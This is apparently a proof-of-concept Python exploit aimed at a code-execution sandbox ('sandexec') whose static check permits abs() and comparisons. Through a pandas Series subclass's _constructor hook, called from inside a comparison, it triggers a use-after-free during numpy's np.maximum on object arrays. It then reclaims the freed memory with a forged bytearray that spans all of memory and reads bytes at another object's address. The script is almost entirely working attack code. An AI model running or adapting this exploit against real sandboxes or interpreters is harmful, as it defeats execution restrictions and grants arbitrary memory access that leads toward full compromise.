# source: numpy 1.24 umath npy_ObjectMax/npy_ObjectMin (funcs.inc.src) via PyUFunc_OO_O: compares two borrowed items, then Py_INCREFs and stores the chosen one; pandas NDFrame._constructor hook; sandexec README, "The static check", comparison rule (abs()/round()/comparisons allowed)
# family: library code calling back into the script from inside a comparison: __ge__ 'return abs(self.k) is None' on a pd.Series subclass runs its __init__ through _constructor
# goal: during np.maximum(left, objs) the script frees the right operand (a bytes object held only by the array), which numpy then stores into the result; reclaimed by a forged bytearray over all memory; reads 16 bytes at another object's address (out-of-bounds memory read)
import numpy as np
import pandas as pd

armed = []
objs = np.empty(1, dtype=object)


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def q(v):
    return (v % (1 << 64)).to_bytes(8, "little")


class K(pd.Series):
    def __init__(self, data=None, index=None):
        super().__init__(data=data, index=index)
        if len(armed) > 0:
            armed.clear()
            objs[0] = 0

    @property
    def _constructor(self):
        return K


class A:
    def __init__(self, k):
        self.k = k

    def __ge__(self, other):
        return abs(self.k) is None


payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
payload = payload + bytes(732 - len(payload))
left = np.empty(1, dtype=object)
left[0] = A(K([2.0]))
objs[0] = bytes(700)
armed.append(1)
out = np.maximum(left, objs)
spare = bytearray(payload)
fake = out[0]
print("fake object:", type(fake), len(fake))
o = object()
r = repr(o)
a = int(r.split("at ")[1][:-1], 16)
print("read at", hex(a), ":", bytes(fake[a:a + 16]).hex(), "type(object) at", hex(addr_of_type(object)), flush=True)
